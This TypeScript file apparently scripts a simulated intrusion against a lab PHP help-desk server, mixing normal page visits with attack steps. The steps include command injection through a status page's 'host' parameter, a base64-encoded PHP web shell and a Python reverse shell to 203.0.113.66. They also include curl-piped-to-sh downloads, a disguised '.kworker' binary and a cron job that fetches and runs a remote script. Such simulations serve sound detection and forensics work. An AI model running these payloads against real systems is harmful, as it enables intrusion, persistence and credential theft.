import { intrude, pause, probe, type, visit } from './requests';
import type { IntrusionStage, IntrusionAct } from './intrusion_stage';

const SITE = 'http://10.20.0.11';
const status = (command: string): IntrusionAct =>
  intrude('--get', '--data-urlencode', `host=127.0.0.1;${command}`, `${SITE}/status.php`);
const shell = (command: string): IntrusionAct =>
  intrude('--data-urlencode', `c=${command}`, `${SITE}/uploads/.cache.php`);

/** Base64 of `<?php system($_POST["c"]);`. */
const WEB_SHELL = Buffer.from('<?php system($_POST["c"]);').toString('base64');
const REVERSE_SHELL = `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",8444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`;

/** The help desk: a status page that hands its host to the shell, nginx and PHP-FPM. */
export const web01: IntrusionStage = {
  hostName: 'web-01-nginx',
  setUp: `
    for address in 10.20.0.11 198.51.100.7 198.51.100.40; do ip address add $address/32 dev lo; done
    ip route replace local 203.0.113.66 dev lo table local proto kernel scope host src 10.20.0.11
    chgrp crontab /var/spool/cron/crontabs; chmod 1730 /var/spool/cron/crontabs
    mkdir -p /var/www/helpdesk/pictures /var/log/nginx
    /usr/bin/convert -size 900x600 plasma: /var/www/helpdesk/pictures/printer.png
    chown -R www-data:www-data /var/www
    cat > /etc/php-fpm-helpdesk.conf <<'CONF'
[global]
pid = /run/php-fpm.pid
error_log = /var/log/php-fpm.log
[helpdesk]
user = www-data
group = www-data
listen = /run/php-fpm.sock
listen.owner = www-data
pm = static
pm.max_children = 3
CONF
    cat > /etc/nginx/nginx.conf <<'CONF'
user www-data;
worker_processes 2;
pid /run/nginx.pid;
events {}
http {
  include /etc/nginx/mime.types;
  access_log /var/log/nginx/access.log combined;
  server {
    listen 10.20.0.11:80;
    root /var/www/helpdesk/public;
    index index.php;
    location ~ \\.php$ { try_files $uri =404; include fastcgi_params; fastcgi_param SCRIPT_FILENAME $request_filename; fastcgi_pass unix:/run/php-fpm.sock; fastcgi_read_timeout 600; }
  }
}
CONF`,
  start: ['php-fpm8.2 --fpm-config /etc/php-fpm-helpdesk.conf', 'nginx', 'cron'],
  readyUrl: `${SITE}/`,
  accessLog: '/var/log/nginx/access.log',
  acts: [
    visit(`${SITE}/`),
    visit(`${SITE}/ticket.php?id=4711`),
    visit(`${SITE}/attach.php?file=printer.png`),
    pause(2),
    visit(`${SITE}/status.php?host=192.0.2.80`, '192.0.2.80'),
    pause(3),
    ...[
      '/.env',
      '/wp-login.php',
      '/admin.php',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    ].map((path) => probe(`${SITE}${path}`)),
    probe(`${SITE}/status.php?host=127.0.0.1`),
    pause(4),
    visit(`${SITE}/ticket.php?id=4712`, '198.51.100.40'),
    status('id'),
    pause(5),
    status('uname -a; cat /etc/os-release'),
    pause(6),
    status('ls -la /var/www/helpdesk/public /var/www/helpdesk/public/uploads'),
    pause(5),
    status(`echo ${WEB_SHELL} | base64 -d > /var/www/helpdesk/public/uploads/.cache.php`),
    pause(4),
    visit(`${SITE}/attach.php?file=printer.png`, '198.51.100.40'),
    shell('whoami'),
    pause(3),
    shell('pwd'),
    pause(2),
    shell('ls'),
    pause(3),
    shell('hostname; w'),
    pause(5),
    shell('cat /etc/passwd'),
    pause(5),
    shell('cat /var/www/helpdesk/config.php'),
    pause(4),
    shell('ps aux; ss -tlnp; ip addr'),
    pause(4),
    visit(`${SITE}/status.php?host=192.0.2.80`, '192.0.2.80'),
    shell('curl -s http://203.0.113.66/lp.sh | sh'),
    pause(6),
    visit(`${SITE}/ticket.php?id=4713`),
    shell(REVERSE_SHELL),
    pause(4),
    type('id'),
    pause(3),
    type('find / -xdev -perm -4000 -type f 2>/dev/null'),
    pause(4),
    type('curl -s http://203.0.113.66/kworker -o /dev/shm/.kworker && chmod +x /dev/shm/.kworker'),
    pause(3),
    type('nohup /dev/shm/.kworker --recv-only 203.0.113.66 8443 </dev/null >/dev/null 2>&1 &'),
    pause(3),
    type(
      "(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://203.0.113.66/i.sh | sh') | crontab -"
    ),
    pause(2),
    type('crontab -l'),
    pause(3),
    type('rm -f /dev/shm/.kworker'),
    pause(2),
    { kind: 'tables' },
    pause(3),
    visit(`${SITE}/attach.php?file=printer.png`),
    visit(`${SITE}/status.php?host=192.0.2.80`, '192.0.2.80'),
    visit(`${SITE}/`, '198.51.100.40'),
    pause(2),
  ],
};
